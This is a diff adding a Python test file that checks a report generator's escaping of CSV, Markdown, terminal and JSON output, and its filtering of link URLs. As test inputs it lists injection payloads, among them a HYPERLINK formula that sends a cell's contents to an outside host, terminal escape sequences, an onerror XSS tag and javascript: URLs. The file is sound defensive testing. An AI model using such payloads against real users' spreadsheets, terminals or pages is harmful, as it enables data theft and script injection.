@@ -1,0 +1,129 @@
+"""Output cannot be turned against its reader: terminal, spreadsheet, Markdown, JSON, HTML.
+
+Spec (specs/semantics.md, "Output"): "terminal and Markdown cells: controls,
+bidirectional controls, tabs and newlines written as visible escapes; CSV ...
+a cell of text that starts with =, +, -, @, a tab or a carriage return gets a
+leading ' (OWASP's rule against formula injection), unless the whole cell is a
+number; Markdown: \\, |, [, ], `, *, _ escaped with a backslash, <, > and & as
+HTML entities; JSON: strict (no NaN or infinity) ...; links: only http, https
+and mailto addresses become links."
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from fractions import Fraction
+
+import pytest
+
+import zgc_plan
+from zgc_plan._characters import UNSAFE
+from zgc_plan._escape import csv_cell, markdown_cell, safe_url, terminal_text
+from zgc_plan._report import _round
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "\x1b]52;c;aGk=\x07",
+    "\x1b[2J",
+    "a\u202eb",
+    "line\nbreak",
+    "a\\|b",
+    "<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+]
+
+
+def _evaluation(text: str) -> zgc_plan.Evaluation:
+    # Built in Python: no reader stands between this text and the writers.
+    observation = zgc_plan.Observation(
+        "labour-productivity", 2022, Fraction(41), zgc_plan.parse_unit("万元/人"), source=text
+    )
+    return zgc_plan.evaluate([observation])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_cells_are_not_formulas(text: str) -> None:
+    """No cell that came from text starts with a formula prefix or holds a control."""
+    rows = list(csv.DictReader(io.StringIO(_evaluation(text).to_csv())))
+    for row in rows:
+        for cell in row.values():
+            assert not UNSAFE.search(cell)
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)  # a negative number, not a formula
+    (source,) = [row["source"] for row in rows if row["source"]]
+    assert source.startswith("'") or source[0] not in "=+-@\t\r"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_cells_hold_no_table_syntax_or_html(text: str) -> None:
+    markdown = _evaluation(text).to_markdown()
+    lines = markdown.splitlines()
+    header_cells = lines[0].count(" | ")
+    row = next(line for line in lines if "劳动生产率" in line)
+    assert len(re.findall(r"(?<!\\) \| ", row)) == header_cells  # no extra column
+    assert "<" not in markdown
+    assert ">" not in markdown.replace("&gt;", "")
+    assert not UNSAFE.search(markdown)
+    assert "\t" not in markdown
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_table_holds_no_control_character(text: str) -> None:
+    table = _evaluation(text).to_table()
+    assert not UNSAFE.search(table)
+    assert "\t" not in table
+    assert "\r" not in table
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_json_is_strict_and_escapes_bidi(text: str) -> None:
+    data = _evaluation(text).to_json()
+    assert not UNSAFE.search(data)
+
+    def refuse(constant: str) -> object:
+        raise AssertionError(constant)
+
+    loaded = json.loads(data, parse_constant=refuse)
+    assert text in {result["source"] for result in loaded["results"]}
+
+
+def test_non_finite_figures_are_null() -> None:
+    """“JSON output always strict ... the non-finite cases shown as null”."""
+    assert _round(float("inf")) is None
+    assert _round(float("nan")) is None
+    assert _round(1.5) == 1.5
+
+
+def test_helpers() -> None:
+    assert terminal_text("a\x1bb\u202ec\n") == "a\\x1bb\\u202ec\\n"
+    assert csv_cell("=1+1") == "'=1+1"
+    assert csv_cell("-3") == "-3"
+    assert csv_cell(-3.5) == -3.5
+    assert markdown_cell("a\\|b") == "a\\\\\\|b"
+    assert markdown_cell("<b>&") == "&lt;b&gt;&amp;"
+
+
+@pytest.mark.parametrize(
+    ("url", "safe"),
+    [
+        ("https://example.org/plan", True),
+        ("http://example.org", True),
+        ("mailto:a@example.org", True),
+        ("javascript:alert(1)", False),
+        ("JaVaScRiPt:alert(1)", False),
+        ("data:text/html,<script>", False),
+        ("//example.org", False),
+        ('https://example.org/"onmouseover=', False),
+    ],
+)
+def test_only_http_and_mailto_links(url: str, safe: bool) -> None:
+    assert (safe_url(url) is not None) is safe
